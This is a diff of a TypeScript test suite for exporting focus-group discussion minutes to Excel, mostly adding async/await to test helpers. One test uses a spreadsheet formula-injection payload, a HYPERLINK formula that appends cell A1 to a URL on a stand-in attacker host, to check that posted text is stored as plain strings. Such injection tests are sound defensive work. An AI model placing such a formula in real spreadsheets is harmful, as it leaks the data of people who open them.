@@ -39,13 +39,13 @@ async function loadBook(buffer: Buffer): Promise<ExcelJS.Workbook> {
 	return book;
 }
 
-let fgd: ReturnType<typeof facilitatedFgd>;
+let fgd: Awaited<ReturnType<typeof facilitatedFgd>>;
 let id: Minutes;
 let en: Minutes;
 let book: Map<string, string>;
 
 beforeAll(async () => {
-	fgd = facilitatedFgd();
+	fgd = await facilitatedFgd();
 	id = buildMinutes(fgd.db, fgd.session.id, 'id', NOW);
 	en = buildMinutes(fgd.db, fgd.session.id, 'en', NOW);
 	book = await openXlsx(await renderXlsx(id));
@@ -53,11 +53,11 @@ beforeAll(async () => {
 
 describe('text cells', () => {
 	it('keeps posted formulas as typed, in string cells, without a guard quote', async () => {
-		const small = sampleFgd();
+		const small = await sampleFgd();
 		const ani = small.join('Ani', 'media', 'Radio Contoh');
-		small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
-		small.post(ani, 'kendala', '-5% bunga untuk UMKM');
-		small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
+		await small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
+		await small.post(ani, 'kendala', '-5% bunga untuk UMKM');
+		await small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
 		const book = await loadBook(await renderXlsx(buildMinutes(small.db, small.session.id, 'id', NOW)));
 		const cells = book.getWorksheet('Masukan')!.getColumn(4).values.filter((v) => v !== undefined && v !== null);
 		expect(cells).toContain('=HYPERLINK("http://evil.example/?d="&A1,"klik")');
@@ -178,12 +178,12 @@ describe('the Tema sheet', () => {
 	it('gives the dots on the theme itself when the themes were voted on', async () => {
 		const small = newFgd();
 		const ani = small.join('Ani', 'media', 'Radio Contoh');
-		small.post(ani, 'kendala', 'Modal usaha sulit');
-		small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
+		await small.post(ani, 'kendala', 'Modal usaha sulit');
+		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
 		const theme = small.db.prepare('SELECT id FROM themes WHERE session_id = ?').get(small.session.id) as { id: string };
-		small.run('facilitator', { type: 'phase.set', phase: 'voting' });
-		small.run('facilitator', { type: 'voting.settings', target: 'themes' });
-		small.run(ani, { type: 'vote.set', targetId: theme.id, count: 3 });
+		await small.run('facilitator', { type: 'phase.set', phase: 'voting' });
+		await small.run('facilitator', { type: 'voting.settings', target: 'themes' });
+		await small.run(ani, { type: 'vote.set', targetId: theme.id, count: 3 });
 		expect(await themeSheet(buildMinutes(small.db, small.session.id, 'en', NOW))).toEqual([
 			['No', 'Theme', 'Contributions', 'Votes'],
 			[1, 'Permodalan', 0, 3]
@@ -191,8 +191,8 @@ describe('the Tema sheet', () => {
 	});
 
 	it('has no votes column when nobody voted', async () => {
-		const small = sampleFgd();
-		small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
+		const small = await sampleFgd();
+		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
 		expect((await themeSheet(buildMinutes(small.db, small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
 	});
 });
